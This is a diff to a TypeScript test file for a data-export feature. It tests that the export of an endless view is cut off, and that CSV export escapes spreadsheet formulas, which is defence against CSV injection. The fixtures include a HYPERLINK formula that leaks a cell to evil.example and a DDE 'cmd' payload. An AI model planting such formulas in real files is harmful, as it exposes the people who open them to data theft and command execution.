@@ -7,6 +7,25 @@ import type { KvPage, RowsResponse } from "../../shared/data";
 import { exportOf, json, numbers, rows, sql, tables, version } from "./data-helpers";
 import { api, app, appWith, call, createProject, deploy, on } from "./helpers";
 
+/** A download's text, or its first `maxLines` lines and no more (an export that never ends is cut here). */
+async function readAtMost(response: Response, maxLines: number): Promise<string> {
+  const reader = (response.body as ReadableStream<Uint8Array>).getReader();
+  const decoder = new TextDecoder();
+  let text = "";
+  let lines = 0;
+  for (;;) {
+    const { done, value } = await reader.read();
+    if (done) return text + decoder.decode();
+    const chunk = decoder.decode(value, { stream: true });
+    text += chunk;
+    lines += chunk.split("\n").length - 1;
+    if (lines > maxLines) {
+      await reader.cancel();
+      return text;
+    }
+  }
+}
+
 describe("export", () => {
   it("streams a whole table as CSV, past the console's 500 rows, telling NULL from ''", async () => {
     const p = await createProject();
@@ -62,6 +81,67 @@ describe("export", () => {
     expect(keyed).toHaveLength(700);
     expect(keyed[0]?.k.bytes).toBe(40);
     expect(keyed[0]?.k.blob).toHaveLength(80);
+  });
+
+  it("ends the export of a view that never ends, with a note after the last row", async () => {
+    const p = await createProject();
+    await sql(p, "CREATE VIEW v AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c");
+    const started = Date.now();
+    const csv = await readAtMost(await api.send("exportTable", exportOf(p, "v", "csv")), 100_010);
+    const lines = csv.split("\r\n");
+    expect(lines[0]).toBe("x");
+    expect(lines[100_000]).toBe("100000");
+    expect(lines[100_001]).toMatch(/^"Export stopped after 100,000 rows: a view \(read by offset/);
+    expect(lines).toHaveLength(100_003);
+    // JSON's note (a string after the rows) is the format's own: tests/unit/server/export-stream.test.ts.
+    console.log(`the export of an endless view ended in ${Date.now() - started} ms`);
+  });
+
+  it("neutralises visitors' formulas in CSV (OWASP's CSV injection); JSON keeps them exact", async () => {
+    // A guest book: visitors sign it with whatever they like, the owner downloads the entries.
+    const p = await createProject();
+    await deploy(
+      p,
+      appWith(`    this.ctx.storage.sql.exec("CREATE TABLE IF NOT EXISTS entries (id INTEGER PRIMARY KEY, name TEXT, stars INTEGER)");
+    if (request.method === "POST") {
+      const { name, stars } = await request.json<{ name: string; stars: number }>();
+      this.ctx.storage.sql.exec("INSERT INTO entries (name, stars) VALUES (?, ?)", name, stars);
+    }
+    return new Response("thanks");`),
+    );
+    const entries = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      "+cmd|' /C calc'!A0",
+      "-2+3",
+      "@SUM(1+1)",
+      "\t=1",
+      "\r=1",
+      "Ada",
+    ];
+    for (const [i, name] of entries.entries()) {
+      const signed = await app(p, "/sign", { method: "POST", body: JSON.stringify({ name, stars: i === 0 ? -2 : i }) });
+      expect(signed.status).toBe(200);
+    }
+    const csv = await (await api.send("exportTable", exportOf(p, "entries", "csv"))).text();
+    expect(csv).toBe(
+      [
+        "id,name,stars",
+        `1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",-2`,
+        `2,"'+cmd|' /C calc'!A0",1`,
+        `3,"'-2+3",2`,
+        `4,"'@SUM(1+1)",3`,
+        `5,"'\t=1",4`,
+        `6,"'\r=1",5`,
+        "7,Ada,6",
+        "",
+      ].join("\r\n"),
+    );
+    const json = (await (await api.send("exportTable", exportOf(p, "entries", "json"))).json()) as {
+      name: string;
+      stars: number;
+    }[];
+    expect(json.map((e) => e.name)).toEqual(entries);
+    expect(json[0]?.stars).toBe(-2);
   });
 });
 
